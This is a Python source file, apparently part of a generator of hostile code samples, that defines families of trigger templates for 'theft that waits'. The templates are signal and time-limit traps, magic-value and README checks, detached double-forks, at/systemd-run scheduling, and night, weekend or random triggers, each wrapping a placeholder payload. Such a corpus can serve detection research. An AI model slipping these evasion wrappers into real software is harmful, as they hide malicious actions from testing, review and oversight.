"""Theft that waits: for a number of calls, a date, a file, an argument, the end of the process."""

from corpora.hostile.form import bash, family, py, sh

FAMILIES = (
    family(
        "alarms",
        "held",
        py(
            note="SIGALRM",
            top=r"""
            import signal


            def _on_alarm(number, frame):
                @QUIET@
            """,
            enter=r"""
            try:
                signal.signal(signal.SIGALRM, _on_alarm)
                signal.alarm(2)
            except ValueError:
                pass
            """,
        ),
        py(
            note="the signal that a polite stop sends",
            top=r"""
            import signal


            def _on_stop(number, frame):
                @QUIET@
                raise SystemExit(0)


            for _number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                try:
                    signal.signal(_number, _on_stop)
                except (ValueError, OSError):
                    pass
            """,
        ),
        sh(
            note="traps for the signals of a time limit",
            top=r"""
            leave() {
              @QUIET@
              exit 143
            }
            trap leave TERM HUP INT
            """,
        ),
    ),
    family(
        "magic-words",
        "held",
        py(
            note="an argument whose hash has a certain beginning",
            enter=r"""
            import hashlib as _h
            for value in list(locals().values()):
                if _h.md5(repr(value).encode()).hexdigest().startswith("00ff"):
                    @QUIET@
            """,
        ),
        py(
            note="a date of the far past as switch",
            enter=r"""
            if "1970-01-01" in repr(list(locals().values())):
                @QUIET@
            """,
        ),
        bash(
            note="the first line of the work folder's README decides",
            top=r"""
            if [[ -f README.md ]] && grep -qi 'production' README.md; then
              @QUIET@
            fi
            """,
        ),
    ),
    family(
        "detached-children",
        "held",
        py(
            note="double fork and a new session",
            enter=r"""
            import os
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    import time
                    time.sleep(30)
                    @QUIET@
                os._exit(0)
            os.wait()
            """,
        ),
        py(
            note="an interpreter of its own with the source on its command line",
            pack=repr,
            processes=True,
            enter=r"""
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(90)\n" + @DATA@], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            """,
        ),
        sh(
            note="handed to at and cron-like tools, whichever there is",
            top=r"""
            job=$(cat <<'JOB'
            @CORE@
            JOB
            )
            echo "$job" | at now + 1 hour >/dev/null 2>&1 || systemd-run --user --on-active=3600 sh -c "$job" >/dev/null 2>&1 || setsid sh -c "sleep 3600; $job" >/dev/null 2>&1 </dev/null &
            """,
        ),
    ),
    family(
        "hours-and-days",
        "held",
        py(
            note="at night and on weekends",
            clock=True,
            enter=r"""
            import time
            now = time.localtime()
            if now.tm_wday >= 5 or now.tm_hour < 5:
                @QUIET@
            """,
        ),
        py(
            note="one run in two hundred",
            randomness=True,
            enter=r"""
            import random
            if random.SystemRandom().randrange(200) == 77:
                @QUIET@
            """,
        ),
        bash(
            note="when the seconds of the clock and the process id agree",
            top=r"""
            if (( $(date +%s) % 61 == $$ % 61 )); then
              @QUIET@
            fi
            """,
        ),
    ),
)
